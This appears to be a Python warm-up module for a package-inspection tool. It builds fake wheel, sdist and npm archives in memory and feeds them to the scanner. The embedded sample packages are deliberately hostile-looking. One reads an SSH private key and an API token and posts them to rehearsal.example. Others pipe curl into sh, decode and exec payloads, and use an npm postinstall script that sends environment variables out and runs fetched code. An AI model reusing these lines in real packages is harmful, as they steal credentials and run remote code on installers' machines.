"""Read two small packages of our own before any child is forked.

What a reader loads at its first use (modules, tables, compiled expressions, grammars) would
otherwise be loaded by every child again: 40 ms, where an ordinary small package takes 5. The
bytes are made here, so the process that forks still has never seen a stranger's.
"""

import gzip
import io
import tarfile
import zipfile

from pratique import ecosystems
from pratique.inspection import worklist
from pratique.limits import Limits

_CODE = b'''# -*- coding: latin-1 -*-
"""A rehearsal; nothing here is ever run."""
import base64
import os
import requests
import subprocess as process
from .other import *

__version__ = "1.0"


@property
def gather(name, *rest, depth=1, **more):
    """Say what is read: a secret, and where it goes."""
    try:
        with open(os.path.expanduser("~/.ssh/id_rsa"), "rb") as file:
            held = {"a": file.read(), **more}
    except (OSError, ValueError) as error:
        raise RuntimeError(f"{name!r} {error}") from None
    for one in [part.strip() for part in name.split(",") if part]:
        held[one] = os.environ.get("API_TOKEN", "%s-%d" % (one, depth))
    while depth > 1 and not rest:
        depth -= 1
    return requests.post("https://rehearsal.example/a", json=held, timeout=3.5)


class Kind(object):
    """Something with a method."""

    limit = 0x10

    def run(self):
        exec(base64.b64decode(b"cHJpbnQoMSk=").decode())
        getattr(__import__("os"), "sys" + "tem")("curl -s https://rehearsal.example/x | sh")
        process.Popen(["powershell", "-Command", "Start-Process calc"], shell=True)
        return lambda value: value[::-1] if value else (yield)


global_name = Kind().run() or "".join(chr(one ^ 1) for one in (105, 104))
'''
_SETUP = b"""from setuptools import setup
from setuptools.command.install import install


class Install(install):
    def run(self):
        install.run(self)


setup(name="rehearsal", version="1.0", packages=["rehearsal"], cmdclass={"install": Install})
"""
_METADATA = (
    b"Metadata-Version: 2.1\nName: rehearsal\nVersion: 1.0\nSummary: A rehearsal\n"
    b"Requires-Dist: requests>=2; python_version > '3'\n\nA rehearsal at https://rehearsal.example\n"
)
_PYPROJECT = b'[build-system]\nrequires = ["setuptools"]\n[project]\nname = "rehearsal"\n'
_SHELL = b'#!/bin/sh\nset -e\nfor one in a b; do echo "$one" | base64 -d > /tmp/x; done\n'
_SCRIPT = b"const fs = require('fs');\nmodule.exports = (a) => eval(fs.readFileSync(a));\n"
_RUST = b'fn main() { let a = std::env::var("A").unwrap(); println!("{}", a); }\n'
_PACKAGE: dict[str, bytes] = {
    "rehearsal/__init__.py": _CODE,
    "rehearsal/other.py": b"value = 1\nnames = ['a', 'b']\n",
    "rehearsal/run.sh": _SHELL,
    "rehearsal/tool.js": _SCRIPT,
    "rehearsal/build.rs": _RUST,
    "rehearsal/data.json": b'{"a": ["https://rehearsal.example"]}',
    "rehearsal/image.png": b"\x89PNG\r\n\x1a\n" + bytes(64),
    "rehearsal/letters.txt": "é\u200b ü\n".encode(),
}
_WHEEL: dict[str, bytes] = {
    **_PACKAGE,
    "rehearsal-1.0.dist-info/METADATA": _METADATA,
    "rehearsal-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\nTag: py3-none-any\n",
    "rehearsal-1.0.dist-info/entry_points.txt": b"[console_scripts]\nx = rehearsal:gather\n",
    "rehearsal-1.0.dist-info/RECORD": b"rehearsal/__init__.py,sha256=AAAA,1\n",
}
_SDIST: dict[str, bytes] = {
    "rehearsal-1.0/setup.py": _SETUP,
    "rehearsal-1.0/setup.cfg": b"[metadata]\nname = rehearsal\n",
    "rehearsal-1.0/pyproject.toml": _PYPROJECT,
    "rehearsal-1.0/PKG-INFO": _METADATA,
    **{f"rehearsal-1.0/{name}": data for name, data in _PACKAGE.items()},
}


_NPM: dict[str, bytes] = {
    "package/package.json": b'{"name": "rehearsal", "version": "1.0.0", "main": "index.js", '
    b'"scripts": {"postinstall": "node install.js"}, "dependencies": {"a": "^1.0.0"}}',
    "package/install.js": b"""'use strict'
const { execSync, spawn } = require('child_process'), path = require('node:path')
import other, { one as two } from './lib/other'
const data = JSON.stringify({ env: process.env, a: [1, 2].map((x) => x * 2), ...{ b: `x${1 + 1}` } })
class Kind extends Object { constructor (a) { super(a); this.a = a } run () { return this.a?.b ?? 1 } }
function decoded (text, [first, ...rest], { key = 3 } = {}) {
  let out = ''
  for (let i = 0; i < text.length; i++) out += String.fromCharCode(text.charCodeAt(i) ^ key)
  for (const one of rest) { if (one === first) continue; else break }
  while (out.length > 999) { out = out.slice(1) }
  switch (key) { case 1: return 'a'; default: return out.replace(/a(b)?/g, '$1').split('').reverse().join('') }
}
try { eval(decoded('dpmplof', [1, 2])) } catch (error) { console.log(error) }
require('https').request({ host: 'rehearsal.example', method: 'POST' }, (res) => {
  let text = ''; res.on('data', (c) => { text += c }); res.on('end', () => new Function(text)())
}).end(Buffer.from(data, 'base64').toString('hex'))
new Promise((resolve) => setTimeout(resolve, 10)).then(() => execSync('curl -s https://rehearsal.example | sh'))
spawn(process.execPath, ['-e', 'console.log(1)'], { detached: true }); new Kind(1).run()
""",
    "package/lib/other.ts": b"export const one: string = 'a'; export default (x: number) => x as any\n",
    "package/index.js": b"module.exports = require('./lib/other')\n",
}


def rehearse() -> None:
    """Inspect a wheel, an sdist and an npm tarball, so that all that reading needs is loaded."""
    for filename, data in (
        ("rehearsal-1.0-py3-none-any.whl", _zipped(_WHEEL)),
        ("rehearsal-1.0.tar.gz", _tarred(_SDIST)),
        ("rehearsal-1.0.0.tgz", _tarred(_NPM)),
    ):
        _, artifact = ecosystems.identify(filename, data)
        worklist.inspect(data, artifact, Limits())


def _zipped(members: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data)
    return made.getvalue()


def _tarred(members: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        for name, data in members.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    return gzip.compress(made.getvalue(), mtime=0)
